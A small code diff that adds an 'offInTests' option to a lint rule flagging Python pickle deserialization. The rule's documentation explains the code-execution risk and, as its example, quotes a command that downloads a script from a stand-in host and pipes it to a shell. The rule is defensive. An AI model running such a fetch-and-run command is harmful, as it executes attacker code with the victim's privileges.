@@ -30,6 +30,7 @@ export default defineRule({
     bandit: 'B301',
     ruff: 'S301',
     fixable: false,
+    offInTests: true,
     docs: {
       what: 'Finds `pickle.load`, `pickle.loads` and `pickle.Unpickler` (also through `cPickle`, `_pickle`, `dill` and `cloudpickle`).',
       why: 'A pickle is a small program for a stack machine, not a data format: through `__reduce__` it can make the loader import and call any function with any arguments, for example `os.system("curl evil.sh | sh")`. Whoever can write the bytes being unpickled (an upload, a cache file in a shared directory, a message queue, a downloaded model) runs code with the privileges of the process. There is no way to make unpickling untrusted data safe after the fact.',
